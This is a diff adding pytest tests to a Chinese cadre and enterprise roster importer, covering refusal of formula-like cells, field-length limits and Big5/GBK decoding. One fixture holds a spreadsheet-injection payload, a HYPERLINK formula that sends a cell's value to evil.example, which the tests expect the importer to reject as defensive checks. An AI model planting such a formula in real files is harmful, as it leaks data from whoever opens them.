@@ -893,3 +893,94 @@ async def test_english_report(service: RosterService) -> None:
     assert "Enterprises: 30 created, 0 updated, 0 unchanged" in lines
     assert "Cadres: 13 created, 0 updated, 0 unchanged" in lines
     assert isinstance(report, RosterReport)
+
+
+# -- hostile and oversized cells ---------------------------------------------------------------
+
+
+async def test_formula_like_text_is_refused_naming_row_and_column(
+    service: RosterService, db: Database, tmp_path: Path
+) -> None:
+    cadres = cadres_csv(
+        tmp_path,
+        ["干部乙", "+86 139 0000 0002", "", "", ""],  # + begins a phone: fine
+        ["=1+1", "", "", "", ""],
+        ["干部丙", "", "", "@SUM(A1)", ""],
+    )
+    enterprises = enterprises_csv(
+        tmp_path,
+        ['=HYPERLINK("http://evil.example/?"&B2,"查看")', "", "", "", "干部乙", "", ""],
+        ["好企业", "", "+制造业", "-一网格", "干部乙", "@干部丙", ""],
+    )
+    problems = await refused(service, [cadres, enterprises])
+    assert cells(problems) == {
+        (3, "姓名"),
+        (4, "上级"),
+        (2, "企业名称"),
+        (3, "行业"),
+        (3, "网格"),
+        (3, "备用干部"),
+    }
+    hyperlink = next(p for p in problems if p.column == "企业名称")
+    assert "=HYPERLINK" in hyperlink.message and "公式" in hyperlink.message
+    assert await counts(db) == {"cadres": 0, "enterprises": 0, "assignments": 0, "contacts": 0}
+
+
+async def test_field_lengths_are_bounded_per_row(
+    service: RosterService, db: Database, tmp_path: Path
+) -> None:
+    cadres = cadres_csv(
+        tmp_path,
+        ["干部乙", "", "", "", ""],
+        ["长" * 31, "", "", "", ""],
+        ["干部丙", "1" * 41, "", "", ""],
+    )
+    enterprises = enterprises_csv(
+        tmp_path,
+        ["企" * 101, "", "", "", "", "", ""],
+        ["甲企业", "9" * 31, "行" * 51, "网" * 51, "干部乙", "", ""],
+    )
+    problems = await refused(service, [cadres, enterprises])
+    assert cells(problems) == {
+        (3, "姓名"),
+        (4, "电话"),
+        (2, "企业名称"),
+        (3, "统一社会信用代码"),
+        (3, "行业"),
+        (3, "网格"),
+    }
+    long_name = next(p for p in problems if p.column == "企业名称")
+    assert "101" in long_name.message and "100" in long_name.message
+    assert "企" * 101 not in long_name.message  # the message never echoes a huge cell
+    assert await counts(db) == {"cadres": 0, "enterprises": 0, "assignments": 0, "contacts": 0}
+    # At the limits, the same rows import.
+    cadres = cadres_csv(tmp_path, ["干部乙", "", "", "", ""], ["长" * 30, "", "", "", ""])
+    enterprises = enterprises_csv(
+        tmp_path, ["企" * 100, "", "行" * 50, "网" * 50, "干部乙", "", ""]
+    )
+    await service.import_files([cadres, enterprises])
+    assert (await counts(db))["enterprises"] == 1
+
+
+async def test_big5_roster_is_read_correctly_not_as_mojibake(
+    service: RosterService, db: Database, tmp_path: Path
+) -> None:
+    traditional = ["姓名", "電話", "角色", "上級", "TelegramID"]
+    rows = [traditional, ["陳志遠", "", "分管領導", "", ""], ["黃麗華", "", "", "陳志遠", ""]]
+    path = write_csv(tmp_path / "big5.csv", rows, "big5")
+    with pytest.raises(UnicodeDecodeError):
+        path.read_bytes().decode("utf-8")
+    assert "陳志遠" not in path.read_bytes().decode("gb18030")  # what was imported before
+    await service.import_files([path])
+    async with db.transaction():
+        found = await db.fetchall("SELECT name, role FROM cadres ORDER BY id")
+    assert [tuple(r) for r in found] == [("陳志遠", "leader"), ("黃麗華", "cadre")]
+
+
+def test_undecodable_or_implausible_csv_is_refused() -> None:
+    big5 = "企業名稱,行業\n海澄精工機械有限公司,機械製造\n".encode("big5")
+    assert decode_csv(big5) == "企業名稱,行業\n海澄精工機械有限公司,機械製造\n"
+    gbk = "企业名称,行业\n海澄精工机械有限公司,机械制造\n".encode("gbk")
+    assert decode_csv(gbk) == "企业名称,行业\n海澄精工机械有限公司,机械制造\n"
+    # Bytes that GB18030 decodes but that read as rare characters only: not a roster.
+    assert decode_csv(bytes(range(0x81, 0xFF)) * 3) is None
